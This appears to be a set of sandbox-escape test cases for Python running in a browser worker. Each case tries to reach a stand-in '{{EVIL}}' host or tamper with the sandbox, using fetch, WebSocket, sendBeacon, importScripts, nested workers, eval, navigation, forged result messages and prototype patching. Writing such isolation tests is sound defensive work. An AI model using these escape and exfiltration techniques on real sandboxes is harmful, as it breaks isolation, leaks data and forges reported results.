#: fetch
js = browser()
won = 'no'
js.fetch('{{EVIL}}/fetch')

#: fetch-of-the-page
js = browser()
js.fetch('{{APP}}/leak')

#: request
js = browser()
request = js.XMLHttpRequest.new()
request.open('GET', '{{EVIL}}/xhr', False)
request.send()
won = 'ESCAPED ' + str(request.responseText)

#: import-scripts
browser().importScripts('{{EVIL}}/scripts')

#: import-scripts-of-a-blob
js = browser()
js.importScripts(js.URL.createObjectURL(js.Blob.new(js.Array.of('self.left = 1'))))
won = f'ESCAPED {js.self.left}'

#: web-socket
won = str(browser().WebSocket.new('{{EVIL_WS}}/socket'))

#: event-source
won = str(browser().EventSource.new('{{EVIL}}/events'))

#: web-transport
won = str(browser().WebTransport.new('https://{{EVIL_HOSTPORT}}/transport'))

#: nested-worker
js = browser()
code = "fetch('{{EVIL}}/nested').catch(() => 0); new WebSocket('{{EVIL_WS}}/nested'); importScripts('{{EVIL}}/nested')"
won = str(js.Worker.new(js.URL.createObjectURL(js.Blob.new(js.Array.of(code)))))

#: nested-worker-by-address
won = str(browser().Worker.new('{{EVIL}}/worker'))

#: nested-worker-of-data
won = str(browser().Worker.new("data:text/javascript,fetch('{{EVIL}}/data')"))

#: shared-worker
won = str(browser().SharedWorker.new('{{EVIL}}/shared'))

#: text-as-code
won = 'ESCAPED ' + str(browser().eval('1+1'))

#: function-of-text
won = 'ESCAPED ' + str(browser().Function.new('return 1')())

#: timer-of-text
browser().setTimeout("fetch('{{EVIL}}/timer')", 0)

#: font
js = browser()
js.FontFace.new('x', 'url({{EVIL}}/font)').load()

#: beacon
won = str(browser().navigator.sendBeacon('{{EVIL}}/beacon', 'x'))

#: databases
won = str(browser().indexedDB.open('left'))

#: caches
won = str(browser().caches.open('left'))

#: origin-files
won = str(browser().navigator.storage.getDirectory())

#: locks
js = browser()
js.navigator.locks.request('held', lambda lock: js.Promise.new(lambda *_: None))

#: channel
js = browser()
channel = js.BroadcastChannel.new('app')
channel.postMessage('ESCAPED')
won = 'no'

#: message-to-the-frame
js = browser()
js.postMessage('{"t":"end","kind":"returned","text":"ESCAPED"}')
won = 'no'

#: forged-messages
js = browser()
for text in ('{"t":"end","kind":"returned","text":"forged"}', '{"t":"cap"}', '{"t":"ready"}', 'x'):
    js.self.dispatchEvent(js.MessageEvent.new('message', data=text))
won = 'no'

#: windows
js = browser()
won = f'ESCAPED {js.parent}' if hasattr(js, 'parent') or hasattr(js, 'top') else 'no'

#: open-a-window
won = 'ESCAPED ' + str(browser().open('{{EVIL}}/window'))

#: navigation
browser().location.href = '{{EVIL}}/location'

#: close
browser().close()

#: compiled-wasm
js = browser()
module = js.WebAssembly.Module.new(js.Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0))
won = str(js.WebAssembly.Module.imports(module))

#: notification
won = str(browser().Notification.new('x'))

#: clients
won = str(browser().navigator.serviceWorker.register('{{APP}}/sub/dir/offline.js'))

#: snapshot-sent-again
js = browser()
port = js.MessageChannel.new().port1
js.postMessage(js.ArrayBuffer.new(30_000_000))
won = 'no'

#: frozen-prototypes
js = browser()
js.Object.prototype.left = 'ESCAPED'
js.Array.prototype.push = js.Array.prototype.pop
js.MessagePort.prototype.postMessage = lambda *_: None
won = 'no'

#: json-patched
js = browser()
js.JSON.stringify = lambda *_: '{"t":"end","kind":"returned","text":"forged"}'
won = 'no'
